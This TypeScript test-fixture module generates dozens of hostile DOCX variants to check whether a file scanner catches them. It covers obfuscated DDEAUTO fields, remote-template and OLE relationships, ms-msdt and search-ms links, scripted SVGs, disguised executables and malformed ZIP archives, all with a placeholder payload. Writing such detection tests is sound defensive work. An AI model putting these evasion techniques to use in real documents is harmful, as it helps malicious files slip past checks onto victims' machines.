import { makeDocx, type Parts, relationsOf } from '../../factories/attachment-files.ts';
import { SECRET } from './pdf-parts.ts';

/** DOCX files that fetch, start or carry something past a careless check; `SECRET` stands in all of it. */
export type DocxVariant = { what: string; make(): Promise<Buffer> };

const rels = 'word/_rels/document.xml.rels';
const FIELD = `DDEAUTO c:\\cmd.exe "${SECRET}"`;
const documentOf = (inside: string, root = 'w:document'): string =>
  `<?xml version="1.0"?><${root} xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships" xmlns:v="urn:schemas-microsoft-com:vml" xmlns:o="urn:schemas-microsoft-com:office:office"><w:body><w:p>${inside}</w:p></w:body></${root}>`;
const mark = (kind: string) => `<w:r><w:fldChar w:fldCharType="${kind}"/></w:r>`;
const code = (text: string) => `<w:r><w:instrText xml:space="preserve">${text}</w:instrText></w:r>`;
const field = (...runs: string[]) => mark('begin') + runs.join('') + mark('separate') + mark('end');

const inDocument = (what: string, inside: string): DocxVariant => ({
  what,
  make: () => makeDocx({ 'word/document.xml': documentOf(inside) }),
});
const withParts = (what: string, parts: Parts): DocxVariant => ({ what, make: () => makeDocx(parts) });

const SPELLINGS: Record<string, string> = {
  'as it is': FIELD,
  'in character references': FIELD.replace('DDEAUTO', '&#68;&#x44;&#69;AUTO'),
  'in CDATA': `<![CDATA[DDE]]><![CDATA[AUTO ${SECRET}]]>`,
  'around a comment': FIELD.replace('DDE', 'D<!-- -->DE'),
  'around an instruction': FIELD.replace('DDE', 'D<?x y?>DE'),
  'in small letters': FIELD.toLowerCase(),
  'after spaces': `\t\n  ${FIELD}`,
};
const COMMANDS = [
  'DDE',
  'INCLUDETEXT',
  'INCLUDEPICTURE',
  'IMPORT',
  'LINK',
  'DATABASE',
  'MACROBUTTON',
  'GOTOBUTTON',
  'PRINT',
  'QUOTE',
  'FILLIN',
  'ASK',
  'RD',
  'EMBED',
  'AUTOTEXT',
  'ADDIN',
  'PRIVATE',
  'CONTROL',
  'HTMLACTIVEX',
];
const ADDRESSES = [
  'javascript:x',
  'file:///c:/x',
  '\\\\\\\\host\\\\x',
  'c:\\\\x',
  'ms-msdt:/id',
  'search-ms:x',
  'java&#10;script:x',
  'data:text/html,x',
  '../x.exe',
];

const fieldVariants: DocxVariant[] = [
  ...Object.entries(SPELLINGS).flatMap(([spelling, text]) => [
    inDocument(`field ${spelling}`, field(code(text))),
    inDocument(`field without frame ${spelling}`, code(text)),
  ]),
  inDocument('field over runs', field(code('D'), code('DEA'), code(`UTO ${SECRET}`))),
  inDocument(
    'field in deleted text',
    `${mark('begin')}<w:del><w:r><w:delInstrText>${FIELD}</w:delInstrText></w:r></w:del>${mark('end')}`,
  ),
  inDocument('field in a field', field(code('IF '), field(code(FIELD)), code(' = 1'))),
  inDocument(
    'field named by a field',
    field(field(code('SEQ a')), code(` ${SECRET}`), field(code(`QUOTE 68 68 69 ${SECRET}`))),
  ),
  inDocument('field without end', mark('begin') + code(FIELD)),
  inDocument('field in plain text', field(`<w:r><w:t>${FIELD}</w:t></w:r>`)),
  inDocument('field half in plain text', field(code('DDE'), `<w:r><w:t>AUTO ${SECRET}</w:t></w:r>`)),
  inDocument('field with deleted words before it', field(`<w:del>${code('DATE ')}</w:del>`, code(FIELD))),
  inDocument(
    'field in the other choice',
    field(
      '<mc:AlternateContent xmlns:mc="http://schemas.openxmlformats.org/markup-compatibility/2006" xmlns:x="urn:x">',
      `<mc:Choice Requires="x">${code('DATE ')}</mc:Choice><mc:Fallback>${code(FIELD)}</mc:Fallback>`,
      '</mc:AlternateContent>',
    ),
  ),
  inDocument(
    'field behind words that programs ignore',
    field(`<x xmlns="urn:x">${code('DATE ')}</x>`, code(FIELD)),
  ),
  inDocument(
    'field that begins where programs ignore it',
    `${mark('begin')}${code('DATE ')}<x xmlns="urn:x">${mark('end')}${mark('begin')}</x>${code(FIELD)}${mark('end')}`,
  ),
  inDocument(
    'field link with a simple field',
    field(
      code('HYPERLINK '),
      `<w:fldSimple w:instr="REF a"><w:r><w:t>file:///${SECRET}</w:t></w:r></w:fldSimple>`,
    ),
  ),
  inDocument(
    'field with another prefix',
    field(code('')) +
      `<x:r xmlns:x="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><x:fldChar x:fldCharType="begin"/><x:instrText>${FIELD}</x:instrText><x:fldChar x:fldCharType="end"/></x:r>`,
  ),
  inDocument('simple field in single quotes', `<w:fldSimple w:instr='${FIELD}'/>`),
  inDocument('simple field in references', `<w:fldSimple w:instr="&#68;DEAUTO &quot;${SECRET}&quot;"/>`),
  inDocument(
    'simple field after other attributes',
    `<w:fldSimple w:dirty="1"\n w:instr = " DDEAUTO ${SECRET}"/>`,
  ),
  ...COMMANDS.map((name) =>
    inDocument(`field ${name}`, field(code(`${name} "http://example.org/${SECRET}"`))),
  ),
  ...ADDRESSES.map((address) =>
    inDocument(`field link to ${address}`, field(code(`HYPERLINK "${address}${SECRET}"`))),
  ),
  inDocument(
    'field link behind a switch',
    field(code(`HYPERLINK \\o "https://example.org" "file:///${SECRET}"`)),
  ),
  inDocument('field link with a field', field(code('HYPERLINK '), field(code('REF a')), code(` ${SECRET}`))),
  ...['word/header1.xml', 'Word/other.XML', 'parts/a.xml', 'word/deep/er/a.xml'].map((name) =>
    withParts(`field in ${name}`, {
      [name]: documentOf(field(code(SPELLINGS['in character references'] ?? '')), 'w:hdr'),
      [rels]: relationsOf(['header', `/${name.replace('a.xml', '%61.xml')}`]),
    }),
  ),
];

const KINDS = [
  'vbaProject',
  'oleObject',
  'package',
  'control',
  'aFChunk',
  'attachedTemplate',
  'frame',
  'subDocument',
  'keyMapCustomizations',
  'attachedToolbars',
  'webextensiontaskpanes',
  'mailMergeSource',
  'mailMergeHeaderSource',
  'recipientData',
  'image',
  'video',
  'audio',
  'media',
  'header',
  'customXml',
  'dataModelConnection',
  'unheardOf',
];
const relationVariants: DocxVariant[] = [
  ...KINDS.flatMap((kind) => [
    withParts(`${kind} outside`, {
      [rels]: relationsOf([kind, `https://example.org/${SECRET}`, 'External']),
    }),
    withParts(`${kind} outside, mode misspelt`, {
      [rels]: relationsOf([kind, `https://example.org/${SECRET}`, ' exTernal']),
    }),
    withParts(`${kind} inside`, { 'word/p.bin': SECRET, [rels]: relationsOf([kind, '%70.bin']) }),
  ]),
  ...ADDRESSES.map((address) =>
    withParts(`link to ${address}`, {
      [rels]: relationsOf(['hyperlink', `${address}${SECRET}`, 'External']),
    }),
  ),
  withParts('relations in other places', {
    'a/_RELS/b.xml.RELS': relationsOf(['oleObject', `https://example.org/${SECRET}`, 'External']),
  }),
  withParts('a template of the settings', {
    'word/settings.xml': documentOf('', 'w:settings'),
    [rels]: relationsOf(['settings', 'settings.xml']),
    'word/_rels/settings.xml.rels': relationsOf([
      'attachedTemplate',
      `file://host/${SECRET}.dotm`,
      'External',
    ]),
  }),
  withParts('a query of the settings', {
    'word/settings.xml': `<w:settings xmlns:w="urn:w"><w:mailMerge><w:connectString w:val="${SECRET}"/><w:query w:val="x"/></w:mailMerge></w:settings>`,
    [rels]: relationsOf(['settings', 'settings.xml']),
  }),
  withParts('two relations of one name', {
    [rels]: relationsOf(['hyperlink', 'https://example.org', 'External']).replace(
      '</Rel',
      `<Relationship Id="r0" Type="x/hyperlink" Target="file:///${SECRET}" TargetMode="External"/></Rel`,
    ),
  }),
];

const TYPES = (type: string) =>
  `<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="xml" ContentType="application/xml"/><Override PartName="/word/document.xml" ContentType="${type}"/></Types>`;

const elementVariants: DocxVariant[] = [
  inDocument(
    'a picture by its address',
    `<v:shape><v:imagedata src="http://example.org/${SECRET}"/></v:shape>`,
  ),
  inDocument('a shape that links', `<v:shape href="file:///${SECRET}"/>`),
  inDocument('an embedded object', `<w:object><o:OLEObject Type="Embed" ProgID="${SECRET}"/></w:object>`),
  inDocument('another document', `<w:altChunk r:id="${SECRET}"/>`),
  inDocument('a shape with an action', `<w:x action="ppaction://program?${SECRET}"/>`),
  withParts('a script in a drawing', {
    'word/a.svg': `<svg xmlns="http://www.w3.org/2000/svg" onload="${SECRET}"><script>${SECRET}</script></svg>`,
    [rels]: relationsOf(['image', 'a.svg']),
  }),
  ...[
    `<image href="https://example.org/${SECRET}"/>`,
    `<image xmlns:l="http://www.w3.org/1999/xlink" l:href="https://example.org/${SECRET}"/>`,
    `<use href="https://example.org/${SECRET}#a"/>`,
    `<style>@import "https://example.org/${SECRET}";</style>`,
    `<style>a { fill: u&#114;l(https://example.org/${SECRET}) }</style>`,
    `<rect style="fill: ur\\6c(https://example.org/${SECRET})"/>`,
    `<rect fill="url('https://example.org/${SECRET}')"/>`,
  ].map((inside, at) =>
    withParts(`a drawing that fetches, ${at + 1}`, {
      'word/a.svg': `<svg xmlns="http://www.w3.org/2000/svg">${inside}</svg>`,
      [rels]: relationsOf(['image', 'a.svg']),
    }),
  ),
  withParts('a document type', {
    'word/document.xml': `<!DOCTYPE a [<!ENTITY x "${SECRET}">]>${documentOf('&x;')}`,
  }),
  withParts('an unknown entity', { 'word/document.xml': documentOf(`&${SECRET};`) }),
  withParts('the type of macros', {
    '[Content_Types].xml': TYPES('application/vnd.ms-word.document.macro&#69;nabledTemplate.main+xml'),
  }),
  withParts('a program called a picture', {
    'word/media/a.png': `MZ${SECRET}`,
    [rels]: relationsOf(['image', 'media/a.png']),
  }),
  withParts('a program beside the parts', { 'word/tool.EXE': SECRET }),
  withParts('a part that nothing names', { 'other/data.bin': SECRET }),
  withParts('data for the fields', {
    'customXml/item1.xml': `<a>${SECRET}</a>`,
    [rels]: relationsOf(['customXml', '../customXml/item1.xml']),
  }),
  withParts('metadata of a person', {
    'docProps/core.xml': `<a>${SECRET}</a>`,
    'docProps/app.xml': `<a>${SECRET}</a>`,
  }),
];

const changed = (what: string, change: (bytes: Buffer) => Buffer): DocxVariant => ({
  what,
  make: async () => change(await makeDocx({ 'word/notes.bin': SECRET })),
});
const archiveVariants: DocxVariant[] = [
  changed('bytes before the archive', (bytes) =>
    Buffer.concat([Buffer.from(`<html>${SECRET}</html>`), bytes]),
  ),
  changed('bytes behind the archive', (bytes) => Buffer.concat([bytes, Buffer.from(SECRET)])),
  changed('two archives', (bytes) => Buffer.concat([bytes, bytes])),
  changed('another name in the local header', (bytes) => {
    const copy = Buffer.from(bytes);
    copy.write('word/vbaPr.bin', copy.indexOf('word/notes.bin'));
    return copy;
  }),
  changed('a part said to be encrypted', (bytes) => {
    const copy = Buffer.from(bytes);
    for (let at = copy.indexOf('PK\x01\x02'); at !== -1; at = copy.indexOf('PK\x01\x02', at + 1))
      copy.writeUInt16LE(1, at + 8);
    return copy;
  }),
  changed('more parts promised than there are', (bytes) => {
    const copy = Buffer.from(bytes);
    copy.writeUInt16LE(60_000, copy.lastIndexOf('PK\x05\x06') + 10);
    return copy;
  }),
];

/** Every variant. */
export const docxAttacks: readonly DocxVariant[] = [
  ...fieldVariants,
  ...relationVariants,
  ...elementVariants,
  ...archiveVariants,
];
